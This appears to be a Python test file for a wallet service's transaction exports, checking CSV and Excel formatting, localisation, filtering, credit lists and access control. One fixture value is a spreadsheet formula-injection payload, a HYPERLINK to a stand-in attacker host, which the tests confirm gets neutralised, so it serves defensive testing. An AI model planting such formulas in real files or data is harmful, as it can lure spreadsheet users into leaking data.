"""Files of a wallet's transactions: what a Belgian spreadsheet reads, and what it must never calculate."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from uuid import UUID
from xml.etree import ElementTree

import pytest
import pytest_asyncio

from services.wallet.catalogue.store import upsert_names
from services.wallet.ledger.rules import credits_of, wallet_id_of
from services.wallet.statement.exports import PIECE
from shared.i18n import LANGUAGES
from shared.ids import new_id
from tests.conftest import ClientOf
from tests.support.apps import App
from tests.support.mint import Headers, Mint
from tests.wallet.book import add_manager
from tests.wallet.lines import BEGIN, MINUTE, add_top_up, line, open_at, sum_up_all, write, write_many

EVIL = '=HYPERLINK("http://evil.example";"Extract")'
CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}c"


class Desk:
    def __init__(self, app: App, wallet_id: UUID, manager: Headers) -> None:
        self.app, self.wallet_id, self.manager = app, wallet_id, manager
        self.path = f"/api/wallets/{wallet_id}"

    async def get(self, path: str, *, language: str = "en", **query: str) -> bytes:
        headers = {**self.manager, "accept-language": language}
        answer = await self.app.http.get(self.path + path, params=query, headers=headers)
        assert answer.status_code == 200, answer.text
        return answer.content

    async def rows(self, *, language: str = "en", **query: str) -> list[list[str]]:
        text = (await self.get("/transactions.csv", language=language, **query)).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest_asyncio.fixture
async def desk(client_of: ClientOf, mint: Mint) -> Desk:
    app = await client_of("wallet")
    async with app.at.database.transaction() as db:
        wallet_id = await open_at(db)
        lines = [line(123_450, "visa", kind="top-up"), line(-2_299, EVIL, at=BEGIN + MINUTE)]
        await write(db, wallet_id, [*lines, line(-100, "Straße; “Zoë”", at=datetime(2026, 7, 1, 22, 30, tzinfo=UTC))])
        await add_top_up(db, wallet_id, BEGIN + MINUTE * 2, method="bancontact")
        await upsert_names(db, "finder", {"en": "Finder", "fr": "Chercheur"}, version=1)
        return Desk(app, wallet_id, mint.person(await add_manager(db, wallet_id)))


async def test_a_belgian_spreadsheet_reads_the_file(desk: Desk) -> None:
    answer = await desk.app.http.get(
        f"{desk.path}/transactions.csv?from=2026-01-01&until=2026-12-31", headers=desk.manager
    )
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="transactions-2026-01-01-2026-12-31.csv"' in answer.headers["content-disposition"]
    header, last, pending, charge, first = await desk.rows()
    assert header[:7] == ["Number", "Date", "Type", "Tool", "Description", "State", "Amount"]
    assert last[:10] == ["3", "2026-07-02 00:30:00", "Use of a tool", "Finder", "Straße; “Zoë”", "Completed", "-1,00", "",
                         "1211,51", "1210,51"]  # fmt: skip
    assert pending[:10] == [
        "",
        "2026-01-01 10:02:00",
        "Top-up",
        "",
        "Top-up by Bancontact",
        "Pending",
        "50,00",
        "",
        "",
        "",
    ]
    assert (charge[4], charge[6]) == (f"'{EVIL}", "-22,99")
    assert first[6:10] == ["1234,50", "", "0,00", "1234,50"]


async def test_the_file_is_in_the_readers_language(desk: Desk) -> None:
    found = {language: await desk.rows(language=language, state="pending") for language in LANGUAGES}
    assert len({rows[0][6] for rows in found.values()}) == 4
    assert len({rows[1][4] for rows in found.values()}) == 4


async def test_the_file_holds_what_is_filtered_in_its_order(desk: Desk) -> None:
    rows = await desk.rows(kind="charge", sort="amount", order="asc")
    assert [row[0] for row in rows[1:]] == ["2", "3"]
    assert [row[0] for row in (await desk.rows(q="zoë"))[1:]] == ["3"]
    assert await desk.rows(q="nothing at all") == [rows[0]]


async def test_a_file_of_many_pieces_is_whole(desk: Desk) -> None:
    async with desk.app.at.database.transaction() as db:
        wallet_id = await open_at(db)
        await write_many(db, wallet_id, PIECE * 2 + 10)
        await sum_up_all(db, wallet_id)
        await db.execute("UPDATE member SET organisation_id = $1", wallet_id)
    desk.path = f"/api/wallets/{wallet_id}"
    rows = await desk.rows(order="asc")
    assert [row[0] for row in rows[1:]] == [str(at) for at in range(1, PIECE * 2 + 11)]
    assert len(await desk.rows(tool="rarely")) == 1 + (PIECE * 2 + 10 - 7 + 999) // 1_000


async def test_excel_gets_texts_as_texts_and_numbers_as_numbers(desk: Desk) -> None:
    content = await desk.get("/transactions.xlsx", order="asc")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {cell.attrib["r"]: cell for cell in sheet.iter(CELL)}
    assert not list(sheet.iter(CELL.replace("}c", "}f"))), "no formula"
    assert "".join(cells["E3"].itertext()) == EVIL
    assert ("".join(cells["G3"].itertext()), cells["G3"].get("t")) == ("-22.99", None)
    local = datetime(2026, 7, 2, 0, 30)
    assert float("".join(cells["B5"].itertext())) == pytest.approx((local - datetime(1899, 12, 30)) / timedelta(days=1))


async def test_too_many_for_excel_are_refused_before_a_file_begins(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("services.wallet.statement.exports.MAX_XLSX", 3)
    answer = await desk.app.http.get(f"{desk.path}/transactions.xlsx", headers=desk.manager)
    assert (answer.status_code, answer.json()["code"]) == (422, "too-many-for-xlsx")
    assert (await desk.app.http.get(f"{desk.path}/transactions.xlsx?kind=charge", headers=desk.manager)).is_success


async def test_credits_are_whole_and_have_a_list_of_their_own(desk: Desk) -> None:
    unit = credits_of("finder")
    async with desk.app.at.database.transaction() as db:
        await db.execute(
            "INSERT INTO wallet (id, organisation_id, unit, low_threshold_cents, version, opened_at) VALUES ($1, $2, $3, 0, 1, $4)",
            wallet_id_of(desk.wallet_id, unit),
            desk.wallet_id,
            unit,
            BEGIN,
        )
        await db.execute("ALTER TABLE ledger_entry ALTER COLUMN unit SET DEFAULT 'credits/finder'")
        await write(db, wallet_id_of(desk.wallet_id, unit), [line(20, kind="adjustment"), line(-3, "Three uses")])
    rows = await desk.rows(unit=unit)
    assert [row[6:11] for row in rows[1:]] == [["-3", "", "20", "17", unit], ["20", "", "0", "20", unit]]
    assert rows[2][4] == "Correction"


@pytest.mark.parametrize("path", ["/transactions.csv", "/transactions.xlsx", "/balance-over-time", "/spending"])
async def test_others_get_no_file(desk: Desk, mint: Mint, path: str) -> None:
    async with desk.app.at.database.transaction() as db:
        employee = mint.person(await add_manager(db, desk.wallet_id, manager=False))
    for headers, status in ((employee, 403), (mint.person(new_id()), 404)):
        assert (await desk.app.http.get(desk.path + path, headers=headers)).status_code == status
